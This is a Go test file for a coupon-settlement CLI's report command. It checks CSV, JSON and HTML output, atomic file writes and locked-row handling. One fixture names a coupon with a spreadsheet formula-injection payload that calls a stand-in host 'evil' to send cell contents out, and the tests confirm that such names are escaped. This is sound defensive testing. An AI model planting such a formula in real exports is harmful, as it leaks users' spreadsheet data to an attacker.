package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/jajeong/jajeong/internal/report"
)

// finance adds two coupons, one of them with a hostile name, and settles two days.
func finance(w *world) {
	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
	first, second := w.AddCouponBetween(2, opens, closes), w.AddCouponBetween(500, opens, closes)
	w.Exec("UPDATE coupon SET discount_won = 1500000 WHERE id = ?", first)
	w.Exec("UPDATE coupon SET discount_won = 5000, name = ? WHERE id = ?", `=HYPERLINK("http://evil/?"&A1,"<b>당첨</b>")`,
		second)
	w.AddUsers(between(1, 9)...)
	w.Exec("UPDATE `user` SET status = 'BLOCKED' WHERE id = 4")
	w.ApplyAt(first, "1", kst("2025-11-20 10:00:00"))
	w.ApplyAt(first, "4", kst("2025-11-20 10:00:01"))
	w.ApplyAt(first, "2", kst("2025-11-20 23:59:59.999999"))
	w.ApplyAt(first, "3", kst("2025-11-21 00:00:00"))
	w.ApplyAt(second, "5", kst("2025-11-20 15:30:00"))
	w.ApplyAt(second, "6", kst("2025-12-01 00:00:00"))
	for _, date := range []string{"2025-11-20", "2025-11-21"} {
		succeeds(w.T)(w.settle("run", "--date="+date, "--operator=kim", "--reason=test"))
	}
	w.Exec("UPDATE run_coupon SET duration_ms = 12")
	// A gap below zero.
	require.NoError(w.T, w.Redis.HIncrBy(w.T.Context(), "state:{"+w.Queue(second)+"}", "accepted", -3).Err())
}

func kst(text string) time.Time {
	zone, err := time.LoadLocation("Asia/Seoul")
	if err != nil {
		panic(err)
	}
	at, err := time.ParseInLocation("2006-01-02 15:04:05.999999", text, zone)
	if err != nil {
		panic(err)
	}
	return at
}

func TestGoldenReport(t *testing.T) {
	t.Parallel()
	inBothLanguages(t, "report", finance, func(s *spoken) {
		s.says("report", "--date=2025-11-20")
		s.says("report", "--month=2025-11", "--output=csv")
		s.says("report", "--date=2025-11-21", "--coupon=1", "--output=json")
		s.says("report", "--date=2025-11-20", "--output=html")
		s.says("report", "--month=2024-02")
		s.says("report", "--month=2024-02", "--output=html")
	})
}

type reportJSON struct {
	From, To time.Time
	Coupons  []report.Coupon
	Total    report.Counts
}

func (w *world) report(args ...string) (r reportJSON) {
	w.T.Helper()
	stdout := succeeds(w.T)(w.settle(append([]string{"report", "--output=json"}, args...)...))
	require.NoError(w.T, json.Unmarshal([]byte(stdout), &r))
	return r
}

// withoutTimeOfReport removes when a report was made.
func withoutTimeOfReport(report string) string {
	return regexp.MustCompile(`generated at [^<\n]*|"generatedAt": .*|as of [^<\n]*|"asOf": .*|,false,0,0,[^,]*,`).
		ReplaceAllString(report, "")
}

func TestReport_ReplacesFileAtomically(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.AddCouponBetween(2, kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00"))
	folder := t.TempDir()
	path := filepath.Join(folder, "report.csv")
	_, want, _ := w.settle("report", "--date=2025-11-20", "--output=csv")
	code, stdout, stderr := w.settle("report", "--date=2025-11-20", "--output=csv", "--out="+path)
	require.Zero(t, code, stderr)
	require.Empty(t, stdout)
	require.Contains(t, stderr, path)
	got, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Equal(t, withoutTimeOfReport(want), withoutTimeOfReport(string(got)))
	files, err := os.ReadDir(folder)
	require.NoError(t, err)
	require.Len(t, files, 1)
}

// A report without the locked coupon contains the others, and every output names the missing one.
func TestReport_BesideLockedCoupon(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	opens, closes := kst("2025-11-10 00:00:00"), kst("2025-12-10 00:00:00")
	free, held := w.AddCouponBetween(2, opens, closes), w.AddCouponBetween(2, opens, closes)
	w.Exec("UPDATE coupon SET name = '=1+1' WHERE id = ?", held)
	w.ApplyAt(free, "1", kst("2025-11-20 10:00:00"))
	w.ApplyAt(held, "1", kst("2025-11-20 10:00:00"))
	// A gap is looked at under the lock.
	require.NoError(t, w.Redis.HIncrBy(t.Context(), "state:{"+w.Queue(held)+"}", "accepted", 1).Err())
	tx, err := w.DB.Begin()
	require.NoError(t, err)
	t.Cleanup(func() { _ = tx.Rollback() })
	_, err = tx.Exec("SET SESSION wait_timeout = 28800") // for as long as the parts wait for others to end
	require.NoError(t, err)
	_, err = tx.Exec("SELECT id FROM coupon WHERE id = ? FOR UPDATE", held)
	require.NoError(t, err)
	for output, says := range map[string]string{
		"table": "coupon 2 =1+1 could not be read, because another session has locked it.",
		"html":  `<p class="bad">coupon 2 =1&#43;1 could not be read, because another session has locked it.`,
		"csv":   "\r\n2025-11-20,2,'=1+1,,,,,,,,,,,,",
		"json":  `"coupon": 2,` + "\n" + `      "name": "=1+1",`,
	} {
		t.Run(output, func(t *testing.T) {
			t.Parallel()
			code, stdout, stderr := w.settle("report", "--lang=en", "--date=2025-11-20", "--output="+output)
			require.Equal(t, exitInfrastructure, code)
			require.Contains(t, stdout, says)
			if output == "csv" {
				require.Regexp(t, `,"report coupon 2: Error 1205 [^"]*",+\r\n$`, stdout,
					"before the columns that came later")
			}
			if output == "json" {
				var r reportJSON
				require.NoError(t, json.Unmarshal([]byte(stdout), &r))
				require.EqualValues(t, 1, r.Total.Applications)
			}
			require.Contains(t, stdout, "심야 쿠폰")
			require.Contains(t, stderr, "settle: report coupon 2: Error 1205")
			require.Contains(t, stderr, "safe to run again")
		})
	}
}
